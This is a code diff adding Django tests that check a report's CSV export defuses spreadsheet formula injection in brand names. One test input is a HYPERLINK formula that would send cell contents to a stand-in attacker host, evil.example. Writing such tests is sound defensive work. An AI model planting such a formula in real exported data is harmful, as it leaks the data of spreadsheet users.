@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import zipfile
 from datetime import datetime
@@ -14,6 +16,7 @@ from django.test import Client
 from renkei.accounts.models import User
 from renkei.accounts.tests.personas import PASSWORD
 from renkei.reports.models import QuarterNote
+from renkei.reports.render_csv import csv_text
 from renkei.reports.tests import records
 
 pytestmark = pytest.mark.django_db
@@ -92,6 +95,29 @@ def test_the_csv_download_is_a_zip_of_one_file_per_table(personas: dict, data: N
     names = zipfile.ZipFile(BytesIO(response.content)).namelist()
     assert "renkei-2023-04-en/table1_totals.csv" in names
     assert "renkei-2023-04-en/table4_scan_ports.csv" in names
+
+
+@pytest.mark.parametrize(
+    "name", ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)", "+1", "－1", "\t=1"]
+)
+def test_a_brand_name_a_spreadsheet_would_run_is_written_as_text(personas: dict, name: str) -> None:
+    at = datetime(2023, 4, 10, 9, tzinfo=ZoneInfo("Asia/Tokyo"))
+    records.incident("phishing", at, brand=records.brand(name, "JP"))
+
+    response = _client(personas["analyst"]).get(PAGE + "report.zip?lang=en")
+
+    archive = zipfile.ZipFile(BytesIO(response.content))
+    rows = list(
+        csv.reader(io.StringIO(archive.read("renkei-2023-04-en/figure9_top_brands.csv").decode()))
+    )
+    cells = [cell for row in rows for cell in row]
+    assert "'" + name in cells
+    assert not any(cell.startswith(("=", "+", "@", "－", "\t")) for cell in cells)
+
+
+def test_numbers_stay_numbers_in_csv_even_negative_ones() -> None:
+    # A change of -3 % is a number in the figures; only text is guarded.
+    assert csv_text([["brand", -3, -1.5, None, "-3"]]) == "brand,-3,-1.5,,'-3\n"
 
 
 def test_staff_add_a_section_that_shows_sanitized_on_the_page(personas: dict, data: None) -> None:
